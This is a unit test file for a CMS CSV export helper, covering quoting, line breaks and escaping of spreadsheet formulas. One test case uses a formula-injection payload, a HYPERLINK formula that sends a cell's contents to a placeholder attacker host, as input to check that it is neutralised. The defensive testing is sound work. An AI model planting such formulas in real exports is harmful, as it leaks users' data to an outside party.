import { describe, expect, it } from 'vitest'

import { csvField, toCsv } from '../../cms/snapshot/csv.ts'
import { parseRfc4180 } from '../helpers/csv.ts'

describe.each<[string, Parameters<typeof csvField>[0], string]>([
  ['a plain word as it is', 'Ambon', 'Ambon'],
  ['a number in its shortest form', 45.7, '45.7'],
  ['zero', 0, '0'],
  ['a negative number without quotes', -3, '-3'],
  ['null as an empty field', null, ''],
  ['undefined as an empty field', undefined, ''],
  ['a non-finite number as an empty field', Number.NaN, ''],
  ['a comma inside quotes', 'APBD, CSR', '"APBD, CSR"'],
  ['inner quotes doubled', 'Program "Harmoni"', '"Program ""Harmoni"""'],
  ['a line feed inside quotes', 'baris 1\nbaris 2', '"baris 1\nbaris 2"'],
  ['a carriage return inside quotes', 'a\rb', '"a\rb"'],
  ['a leading space inside quotes, so it survives trimming readers', ' Ambon', '" Ambon"'],
  ['a trailing space inside quotes', 'Ambon ', '"Ambon "'],
  ['non-ASCII text as it is', 'Kota Bau-Bau — Sulawesi Tenggara', 'Kota Bau-Bau — Sulawesi Tenggara'],
  ['a boolean as text', true, 'true'],
  ['a formula as text a spreadsheet will not run', '=HYPERLINK("http://evil.example/?leak="&A1,"x")', `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")"`],
  ['text starting with @ as text', '@SUM(A1)', "'@SUM(A1)"],
  ['text starting with a minus as text', '-Dinas', "'-Dinas"],
  ['a negative number given as text still as a number', '-3.5', '-3.5'],
])('csvField', (what, value, expected) => {
  it(`writes ${what}`, () => {
    expect(csvField(value)).toBe(expected)
  })
})

describe('toCsv', () => {
  const columns = [
    { name: 'id', value: (row: { id: string; note: string | null }) => row.id },
    { name: 'note', value: (row: { id: string; note: string | null }) => row.note },
  ]

  it('writes a header and one CRLF-terminated line per record, in column order', () => {
    expect(toCsv(columns, [{ id: '1', note: 'a' }, { id: '2', note: null }])).toBe('id,note\r\n1,a\r\n2,\r\n')
  })

  it('writes only the header for no records', () => {
    expect(toCsv(columns, [])).toBe('id,note\r\n')
  })

  it('keeps a field with a line break as one record', () => {
    const csv = toCsv(columns, [{ id: '1', note: 'x,"y"\r\nz' }])
    expect(csv).toBe('id,note\r\n1,"x,""y""\r\nz"\r\n')
    expect(parseRfc4180(csv)).toEqual([
      ['id', 'note'],
      ['1', 'x,"y"\r\nz'],
    ])
  })
})
